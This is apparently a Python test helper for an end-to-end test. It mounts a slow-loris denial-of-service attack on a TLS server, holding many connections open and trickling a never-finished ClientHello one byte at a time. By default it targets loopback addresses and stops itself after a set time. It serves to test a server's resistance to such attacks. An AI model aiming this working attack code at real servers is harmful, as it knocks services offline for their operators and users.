#!/usr/bin/env python3
"""Slow-loris attacker for tests/e2e/loris.bats.

Keeps COUNT TCP connections from SOURCE to HOST:PORT open, each sending
a TLS record header that announces a 512-byte ClientHello and then one
byte of it every INTERVAL seconds, so the handshake never ends.  A
connection the server closes is opened again after REOPEN seconds.
Stops by itself after SECONDS (and SIGALRM a little later, should the
loop ever stall), so it can never outlive the test.

Every second, and at the end, writes STATS (JSON): opened, connected,
refused (connect failed), closed (by the server), open_now, max_open,
and the lifetimes of closed connections (median, max, in seconds).
"""
import argparse
import errno
import json
import os
import selectors
import signal
import socket
import sys
import time

HEADER = bytes([0x16, 0x03, 0x01, 0x02, 0x00])	# handshake record, 512 bytes
BODY = bytes([0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]) + bytes(506)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--reopen", type=float, default=0.5)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--stats", required=True)
    a = ap.parse_args()

    signal.signal(signal.SIGALRM, lambda *_: os._exit(3))
    signal.alarm(int(a.seconds) + 15)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))

    sel = selectors.DefaultSelector()
    st = {"opened": 0, "connected": 0, "refused": 0, "closed": 0,
          "open_now": 0, "max_open": 0}
    lifetimes = []
    # slot -> dict(sock, state, since, next_send, sent) or reopen time
    slots = {}
    reopen_at = {i: 0.0 for i in range(a.count)}
    start = time.monotonic()
    next_stats = start

    def write_stats(final=False):
        out = dict(st)
        lt = sorted(lifetimes)
        out["lifetime_median_s"] = round(lt[len(lt) // 2], 2) if lt else None
        out["lifetime_max_s"] = round(lt[-1], 2) if lt else None
        out["final"] = final
        tmp = a.stats + ".tmp"
        with open(tmp, "w") as f:
            json.dump(out, f)
        os.replace(tmp, a.stats)

    def drop(i, now, by_server):
        c = slots.pop(i)
        try:
            sel.unregister(c["sock"])
        except (KeyError, ValueError):
            pass
        c["sock"].close()
        if c["state"] == "up":
            st["open_now"] -= 1
            if by_server:
                st["closed"] += 1
                lifetimes.append(now - c["since"])
        reopen_at[i] = now + a.reopen

    def open_one(i, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((a.source, 0))
        except OSError:
            s.close()
            st["refused"] += 1
            reopen_at[i] = now + a.reopen
            return
        st["opened"] += 1
        rc = s.connect_ex((a.host, a.port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            st["refused"] += 1
            reopen_at[i] = now + a.reopen
            return
        slots[i] = {"sock": s, "state": "connecting", "since": now,
                    "next_send": 0.0, "sent": 0}
        del reopen_at[i]
        sel.register(s, selectors.EVENT_WRITE, i)

    try:
        while True:
            now = time.monotonic()
            if now - start >= a.seconds:
                break
            for i in [i for i, t in reopen_at.items() if t <= now]:
                open_one(i, now)
            for key, ev in sel.select(timeout=0.1):
                i = key.data
                c = slots.get(i)
                if c is None:
                    continue
                now = time.monotonic()
                s = c["sock"]
                if c["state"] == "connecting":
                    err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err != 0:
                        st["refused"] += 1
                        drop(i, now, False)
                        continue
                    try:
                        s.send(HEADER)
                    except OSError:
                        st["refused"] += 1
                        drop(i, now, False)
                        continue
                    c["state"] = "up"
                    c["since"] = now
                    c["next_send"] = now + a.interval
                    st["connected"] += 1
                    st["open_now"] += 1
                    st["max_open"] = max(st["max_open"], st["open_now"])
                    sel.modify(s, selectors.EVENT_READ, i)
                else:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        drop(i, now, True)
            now = time.monotonic()
            for i, c in list(slots.items()):
                if c["state"] != "up" or c["next_send"] > now:
                    continue
                try:
                    # Never the last byte: the ClientHello stays unfinished.
                    if c["sent"] < len(BODY) - 1:
                        c["sock"].send(BODY[c["sent"]:c["sent"] + 1])
                        c["sent"] += 1
                    c["next_send"] = now + a.interval
                except OSError:
                    drop(i, now, True)
            if now >= next_stats:
                write_stats()
                next_stats = now + 1.0
    finally:
        write_stats(final=True)


if __name__ == "__main__":
    main()
